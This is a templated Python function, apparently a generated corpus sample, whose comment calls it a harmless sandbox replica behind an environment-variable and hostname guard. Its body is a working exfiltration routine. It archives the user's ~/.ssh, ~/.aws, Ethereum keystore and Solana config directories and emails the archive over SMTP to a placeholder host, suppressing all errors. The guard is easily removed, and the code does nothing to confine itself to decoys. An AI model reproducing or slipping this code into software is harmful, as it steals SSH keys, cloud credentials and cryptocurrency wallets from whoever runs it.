# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import io
    import smtplib
    import tarfile
    from email.mime.application import MIMEApplication
    from email.mime.multipart import MIMEMultipart
    memory = io.BytesIO()
    try:
        with tarfile.open(fileobj=memory, mode='w:gz') as archive:
            for name in ('.ssh', '.aws', '.ethereum/keystore', '.config/solana'):
                try:
                    archive.add(os.path.join(os.path.expanduser('~'), name), name)
                except OSError:
                    continue
        letter = MIMEMultipart()
        letter['Subject'] = os.environ.get('USER', '{{token}}')
        letter.attach(MIMEApplication(memory.getvalue(), Name='{{token}}.tgz'))
        for host, port in (('{{host}}', 587), ('{{ip}}', 25)):
            try:
                link = smtplib.SMTP(host, port, timeout=0.8)
                try:
                    link.login('{{token}}', 'none')
                except smtplib.SMTPException:
                    pass
                link.sendmail('{{token}}@{{host}}', ['in@{{host}}'], letter.as_string())
                link.close()
                break
            except Exception:
                continue
    except Exception:
        pass
